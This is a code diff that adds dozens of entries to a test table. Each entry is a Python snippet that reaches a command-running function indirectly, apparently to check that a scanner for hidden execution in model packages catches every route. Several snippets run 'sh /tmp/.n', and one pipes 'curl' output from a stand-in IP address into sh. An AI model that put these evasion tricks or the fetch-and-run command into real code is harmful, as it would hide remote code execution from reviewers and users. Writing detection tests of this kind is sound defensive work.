@@ -734,6 +734,241 @@ WAYS: dict[str, tuple[str, dict[str, str]]] = {
             "c": "import marshal,zlib,base64\nD='eJw='\ndef ld(): return marshal.loads(zlib.decompress(base64.b64decode(D)))"
         },
     ),
+    "os.path.os": ("import os\nos.path.os.system('sh /tmp/.n')", {}),
+    "os.sys": ("import os\nos.sys.modules['os'].system('sh /tmp/.n')", {}),
+    "subprocess.os": ("import subprocess\nsubprocess.os.system('sh /tmp/.n')", {}),
+    "attrdict": (
+        "from .kernels import prepare\nclass D(dict):\n    __getattr__=dict.__getitem__\n    __setattr__=dict.__setitem__\nd=D()\nd['go']=prepare\nd.go()",
+        {"kernels": RUNS},
+    ),
+    "attrdict2": (
+        "from .kernels import prepare\nclass D(dict):\n    __getattr__=dict.get\nd=D(go=prepare)\nd.go()",
+        {"kernels": RUNS},
+    ),
+    "attrdict3": (
+        "from .kernels import prepare\nclass D(dict):\n    def __getattr__(self,k): return self[k]\nd=D(go=prepare)\nd.go()",
+        {"kernels": RUNS},
+    ),
+    "code swap": (
+        "from .kernels import prepare\ndef f(command='sh /tmp/.n'): pass\nf.__code__=prepare.__code__\nf()",
+        {"kernels": RUNS},
+    ),
+    "defaults": ("import os\ndef f(c='ls'): os.system(c)\nf.__defaults__=('curl http://203.0.113.7|sh',)\nf()", {}),
+    "sys.modules.get": ("import sys\nsys.modules.get('os').system('sh /tmp/.n')", {}),
+    "import fallback": (
+        "try:\n    from .missing import x\nexcept ImportError:\n    from .kernels import prepare as x\nx()",
+        {"kernels": RUNS},
+    ),
+    "vectorize": (
+        "from .kernels import prepare\nimport numpy as np\nnp.vectorize(prepare)(['sh /tmp/.n'])",
+        {"kernels": RUNS},
+    ),
+    "namespace": (
+        "from .kernels import prepare\nimport argparse\nargparse.Namespace(go=prepare).go()",
+        {"kernels": RUNS},
+    ),
+    "simple ns": (
+        "from .kernels import prepare\nimport types\nn=types.SimpleNamespace(go=prepare)\nn.go()",
+        {"kernels": RUNS},
+    ),
+    "lazy attr": (
+        "from .kernels import prepare\nclass L:\n    def __init__(s,f): s.f=f\n    def __getattr__(s,n): return s.f\nL(prepare).x()",
+        {"kernels": RUNS},
+    ),
+    "class M.forward patch": (
+        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module): pass\nM.forward=lambda self,x: prepare()",
+        {"kernels": RUNS},
+    ),
+    "instance patch": (
+        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self,config):\n        self.forward=lambda x: prepare()",
+        {"kernels": RUNS},
+    ),
+    "cont deque": (
+        "from .kernels import prepare\nimport collections\nd=collections.deque([prepare])\nd.popleft()()",
+        {"kernels": RUNS},
+    ),
+    "queue": (
+        "from .kernels import prepare\nimport queue\nq=queue.Queue()\nq.put(prepare)\nq.get()()",
+        {"kernels": RUNS},
+    ),
+    "heap": (
+        "from .kernels import prepare\nimport heapq\nh=[]\nheapq.heappush(h,(1,prepare))\nheapq.heappop(h)[1]()",
+        {"kernels": RUNS},
+    ),
+    "chainmap": (
+        "from .kernels import prepare\nimport collections\ncollections.ChainMap({'x':prepare})['x']()",
+        {"kernels": RUNS},
+    ),
+    "copy fn": ("from .kernels import prepare\nimport copy\ncopy.copy(prepare)()", {"kernels": RUNS}),
+    "list mult": ("from .kernels import prepare\n([prepare]*2)[1]()", {"kernels": RUNS}),
+    "star unpack": ("from .kernels import prepare\na,*b=[1,prepare]\nb[0]()", {"kernels": RUNS}),
+    "dict pop": ("from .kernels import prepare\n{'x':prepare}.pop('x')()", {"kernels": RUNS}),
+    "dict popitem": ("from .kernels import prepare\n{'x':prepare}.popitem()[1]()", {"kernels": RUNS}),
+    "setdefault": ("from .kernels import prepare\nd={}\nd.setdefault('x',prepare)()", {"kernels": RUNS}),
+    "filter": ("from .kernels import prepare\nlist(filter(callable,[prepare]))[0]()", {"kernels": RUNS}),
+    "max key": ("from .kernels import prepare\nmax([prepare],key=id)()", {"kernels": RUNS}),
+    "next iter": ("from .kernels import prepare\nnext(iter([prepare]))()", {"kernels": RUNS}),
+    "reversed": ("from .kernels import prepare\nlist(reversed([prepare]))[0]()", {"kernels": RUNS}),
+    "sorted": ("from .kernels import prepare\nsorted([prepare],key=str)[0]()", {"kernels": RUNS}),
+    "chain": ("from .kernels import prepare\nimport itertools\nnext(itertools.chain([prepare]))()", {"kernels": RUNS}),
+    "islice": (
+        "from .kernels import prepare\nimport itertools\nnext(itertools.islice([prepare],1))()",
+        {"kernels": RUNS},
+    ),
+    "cycle": ("from .kernels import prepare\nimport itertools\nnext(itertools.cycle([prepare]))()", {"kernels": RUNS}),
+    "product": (
+        "from .kernels import prepare\nimport itertools\nfor f,a in itertools.product([prepare],['sh /tmp/.n']): f(a)",
+        {"kernels": RUNS},
+    ),
+    "groupby": (
+        "from .kernels import prepare\nimport itertools\nfor k,g in itertools.groupby([1],lambda x: prepare()): pass",
+        {"kernels": RUNS},
+    ),
+    "attr getter": ("from .kernels import prepare\nclass C: f=staticmethod(prepare)\nC().f()", {"kernels": RUNS}),
+    "staticmethod cls": ("from .kernels import prepare\nclass C: f=staticmethod(prepare)\nC.f()", {"kernels": RUNS}),
+    "classmethod fn": (
+        "from .kernels import prepare\nclass C: f=classmethod(lambda c: prepare())\nC.f()",
+        {"kernels": RUNS},
+    ),
+    "property lambda setattr": (
+        "from .kernels import prepare\nclass C: pass\nC.x=property(lambda s: prepare())\nC().x",
+        {"kernels": RUNS},
+    ),
+    "inst call": (
+        "from .kernels import prepare\nclass C:\n    def __init__(s,f): s.f=f\n    def __call__(s): return s.f()\nC(prepare)()",
+        {"kernels": RUNS},
+    ),
+    "lambda kw": ("from .kernels import prepare\n(lambda *a,**k: k['f']())(f=prepare)", {"kernels": RUNS}),
+    "args idx": ("from .kernels import prepare\n(lambda *a: a[0]())(prepare)", {"kernels": RUNS}),
+    "apply kw": (
+        "from .kernels import prepare\ndef ap(f,**kw): f(**kw)\nap(prepare,command='sh /tmp/.n')",
+        {"kernels": RUNS},
+    ),
+    "format attr": (
+        "from .kernels import prepare\nclass T:\n    @property\n    def x(s): prepare()\n'{0.x}'.format(T())",
+        {"kernels": RUNS},
+    ),
+    "fstring nested": ("from .kernels import prepare\nf'{(lambda: prepare())()}'", {"kernels": RUNS}),
+    "ternary": ("from .kernels import prepare\n(prepare if 1 else print)()", {"kernels": RUNS}),
+    "or chain": ("from .kernels import prepare\n(None or prepare)()", {"kernels": RUNS}),
+    "and chain": ("from .kernels import prepare\n(True and prepare)()", {"kernels": RUNS}),
+    "slice": ("from .kernels import prepare\n[0,prepare][1:][0]()", {"kernels": RUNS}),
+    "tuple concat": ("from .kernels import prepare\n((1,)+(prepare,))[1]()", {"kernels": RUNS}),
+    "set pop": ("from .kernels import prepare\n{prepare}.pop()()", {"kernels": RUNS}),
+    "dict merge": ("from .kernels import prepare\n({}|{'x':prepare})['x']()", {"kernels": RUNS}),
+    "dict **": ("from .kernels import prepare\n{**{'x':prepare}}['x']()", {"kernels": RUNS}),
+    "nested cls": (
+        "from .kernels import prepare\nclass A:\n    class B:\n        def go(s): prepare()\nA.B().go()",
+        {"kernels": RUNS},
+    ),
+    "inner import": ("def f():\n    from .kernels import prepare\n    return prepare\nf()()", {"kernels": RUNS}),
+    "cond import": (
+        "import sys\nif sys.version_info>(3,):\n    from .kernels import prepare\nelse:\n    prepare=None\nprepare()",
+        {"kernels": RUNS},
+    ),
+    "reload": ("import importlib\nfrom . import kernels\nimportlib.reload(kernels).prepare()", {"kernels": RUNS}),
+    "getattr default": (
+        "from .kernels import prepare\nimport torch\ngetattr(torch,'zzz',prepare)()",
+        {"kernels": RUNS},
+    ),
+    "dict get default": ("from .kernels import prepare\n{}.get('x',prepare)()", {"kernels": RUNS}),
+    "exc group": (
+        "from .kernels import prepare\ntry:\n    raise ExceptionGroup('x',[ValueError()])\nexcept* ValueError:\n    prepare()",
+        {"kernels": RUNS},
+    ),
+    "contextlib suppress": (
+        "from .kernels import prepare\nimport contextlib\nwith contextlib.suppress(Exception):\n    prepare()",
+        {"kernels": RUNS},
+    ),
+    "exitstack enter": (
+        "from .kernels import prepare\nimport contextlib\nclass C:\n    def __enter__(s): prepare()\n    def __exit__(s,*a): pass\nwith contextlib.ExitStack() as st:\n    st.enter_context(C())",
+        {"kernels": RUNS},
+    ),
+    "closing": (
+        "from .kernels import prepare\nimport contextlib\nclass C:\n    def close(s): prepare()\nwith contextlib.closing(C()): pass",
+        {"kernels": RUNS},
+    ),
+    "redirect": (
+        "from .kernels import prepare\nimport contextlib\nclass W:\n    def write(s,x): prepare()\nwith contextlib.redirect_stdout(W()): print(1)",
+        {"kernels": RUNS},
+    ),
+    "print file": (
+        "from .kernels import prepare\nclass W:\n    def write(s,x): prepare()\nprint(1,file=W())",
+        {"kernels": RUNS},
+    ),
+    "json default": (
+        "from .kernels import prepare\nimport json\njson.dumps(object(),default=lambda o: prepare())",
+        {"kernels": RUNS},
+    ),
+    "pickle persistent": (
+        "from .kernels import prepare\nimport pickle,io\nclass U(pickle.Unpickler):\n    def persistent_load(s,p): prepare()\nU(io.BytesIO(b'x')).load()",
+        {"kernels": RUNS},
+    ),
+    "html parser": (
+        "from .kernels import prepare\nfrom html.parser import HTMLParser\nclass H(HTMLParser):\n    def handle_starttag(s,t,a): prepare()\nH().feed('<a>')",
+        {"kernels": RUNS},
+    ),
+    "cmd": (
+        "from .kernels import prepare\nimport cmd\nclass C(cmd.Cmd):\n    def do_x(s,a): prepare()\nC().onecmd('x')",
+        {"kernels": RUNS},
+    ),
+    "string formatter": (
+        "from .kernels import prepare\nimport string\nclass F(string.Formatter):\n    def get_value(s,k,a,kw): prepare()\nF().format('{0}',1)",
+        {"kernels": RUNS},
+    ),
+    "unittest": (
+        "from .kernels import prepare\nimport unittest\nclass T(unittest.TestCase):\n    def test_x(s): prepare()\nunittest.main(exit=False)",
+        {"kernels": RUNS},
+    ),
+    "abc register": (
+        "from .kernels import prepare\nimport abc\nclass A(abc.ABC):\n    @classmethod\n    def __subclasshook__(c,x): prepare()\nissubclass(int,A)",
+        {"kernels": RUNS},
+    ),
+    "typing cast": ("from .kernels import prepare\nimport typing\ntyping.cast(object,prepare)()", {"kernels": RUNS}),
+    "deprecated deco": (
+        "from .kernels import prepare\nimport functools\ndef deco(f):\n    @functools.wraps(f)\n    def w(*a,**k):\n        prepare()\n        return f(*a,**k)\n    return w\n@deco\ndef x(): pass\nx()",
+        {"kernels": RUNS},
+    ),
+    "class deco factory": (
+        "from .kernels import prepare\nclass reg:\n    def __init__(s,n): s.n=n\n    def __call__(s,f):\n        prepare()\n        return f\n@reg('x')\ndef f(): pass",
+        {"kernels": RUNS},
+    ),
+    "torch compile": ("from .kernels import prepare\nimport torch\ntorch.compile(prepare)('x')", {"kernels": RUNS}),
+    "lru": ("from .kernels import prepare\nimport functools\nfunctools.lru_cache(prepare)('x')", {"kernels": RUNS}),
+    "partial kw": (
+        "from .kernels import prepare\nimport functools\nfunctools.partial(prepare,command='sh /tmp/.n')()",
+        {"kernels": RUNS},
+    ),
+    "partial nested": (
+        "from .kernels import prepare\nimport functools\nfunctools.partial(functools.partial,prepare)('sh /tmp/.n')()",
+        {"kernels": RUNS},
+    ),
+    "methodcaller self": (
+        "from .kernels import prepare\nimport operator\nclass C:\n    def go(s): prepare()\noperator.methodcaller('go')(C())",
+        {"kernels": RUNS},
+    ),
+    "map methodcaller": (
+        "from .kernels import prepare\nimport operator\nclass C:\n    def go(s): prepare()\nlist(map(operator.methodcaller('go'),[C()]))",
+        {"kernels": RUNS},
+    ),
+    "sum gen": ("from .kernels import prepare\nsum(1 for _ in [prepare()])", {"kernels": RUNS}),
+    "any gen": ("from .kernels import prepare\nany(prepare() for _ in [1])", {"kernels": RUNS}),
+    "sched entry": (
+        "from .kernels import prepare\nimport asyncio\nloop=asyncio.new_event_loop()\nloop.call_soon(prepare)\nloop.run_forever()",
+        {"kernels": RUNS},
+    ),
+    "tenacity": (
+        "from .kernels import prepare\nimport tenacity\n@tenacity.retry\ndef f(): prepare()\nf()",
+        {"kernels": RUNS},
+    ),
+    "torch hook global": (
+        "from .kernels import prepare\nimport torch\ntorch.nn.modules.module.register_module_forward_hook(lambda *a: prepare())",
+        {"kernels": RUNS},
+    ),
+    "trainer cb": (
+        "from .kernels import prepare\nimport transformers\nclass C(transformers.TrainerCallback):\n    def on_init_end(s,*a,**k): prepare()\ntransformers.Trainer(callbacks=[C()])",
+        {"kernels": RUNS},
+    ),
 }
 
 
